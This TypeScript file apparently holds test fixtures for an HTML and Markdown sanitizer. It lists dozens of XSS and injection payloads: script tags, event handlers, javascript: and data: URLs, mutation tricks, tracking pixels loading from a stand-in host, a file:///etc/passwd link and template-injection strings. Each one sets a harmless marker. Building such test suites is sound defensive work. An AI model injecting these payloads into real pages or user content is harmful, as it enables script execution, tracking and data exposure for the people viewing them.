/** Texts that would run, load or lead somewhere if they were taken for more than text. */

// Whatever runs leaves this mark; whatever loads asks this host.
export const mark = 'ranHere'
const run = `window.${mark}=1`
const away = 'https://tracker.example'

const html = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${away}/x.js></SCRIPT>`,
  `<script type="module">${run}</script>`,
  `</textarea></title><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror="${run}">`,
  `<IMG SRC=x ONERROR=${run}//`,
  `<img src=x:x onerror=\u0060${run}\u0060>`,
  `<img src="${away}/pixel.gif" width="1" height="1">`,
  `<img srcset="${away}/pixel.png 1x">`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:parent.${mark}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
  `<object data="data:text/html,<script>top.${mark}=1</script>"></object>`,
  `<embed src="${away}/x.swf">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}">`,
  `<body onload="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<div style="background:url(${away}/css)" onpointerover="${run}">x</div>`,
  `<style>@import '${away}/x.css'; * { background: url(${away}/y) }</style>`,
  `<link rel="stylesheet" href="${away}/x.css">`,
  `<base href="${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<a href="javascript:${run}">x</a>`,
  `<!--><img src=x onerror="${run}">-->`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror="${run}"></template>`,
]

const markdown = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java&#115;cript&#58;${run})`,
  `[x](<java\tscript:${run}>)`,
  `[x](data:text/html;base64,PHNjcmlwdD50b3AucmFuSGVyZT0xPC9zY3JpcHQ+)`,
  `[x](vbscript:${run})`,
  `[x](file:///etc/passwd)`,
  `[x](http://tracker.example/)`,
  `[x](//tracker.example/)`,
  `<javascript:${run}>`,
  `[x][y]\n\n[y]: javascript:${run}`,
  `![x](${away}/pixel.gif)`,
  `![x][y]\n\n[y]: ${away}/pixel.svg`,
  `[![x](${away}/pixel.gif)](javascript:${run})`,
  `![x" onerror="${run}](x)`,
  `\u0060\u0060\u0060html onload=${run}\n<img src=x onerror="${run}">\n\u0060\u0060\u0060`,
  `&lt;img src=x onerror=&quot;${run}&quot;&gt;`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
]

export const payloads: readonly string[] = [...html, ...markdown]
